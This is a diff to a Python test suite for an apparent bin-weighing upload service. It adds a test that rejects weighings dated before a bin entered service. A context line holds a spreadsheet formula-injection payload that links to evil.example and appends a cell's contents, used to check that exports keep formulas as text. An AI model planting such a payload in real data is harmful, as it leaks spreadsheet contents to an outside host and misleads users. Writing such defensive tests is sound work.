@@ -92,6 +92,13 @@ def test_event_ids_belong_to_their_device_and_a_conflicting_resend_is_kept(clien
     assert r.status_code == 200 and r.json()["device"] == b.device
 
 
+def test_a_weighing_from_before_its_bin_was_in_service_is_rejected(client, staff) -> None:
+    home = enrol(client, staff)  # in service for a year (tests/utils/pilot.enrol)
+    early = event(home, at=dt.datetime.now(dt.UTC) - dt.timedelta(days=370))
+    reasons = upload(client, home, [early]).json()["results"][0]["reasons"]
+    assert any("before bin" in r and "was in service" in r for r in reasons), reasons
+
+
 def test_the_export_keeps_formulas_as_text(client, staff, home) -> None:
     evil = event(home, firmware='=HYPERLINK("http://evil.example/?"&A1,"update")')
     assert upload(client, home, [evil]).json()["accepted"] == 1
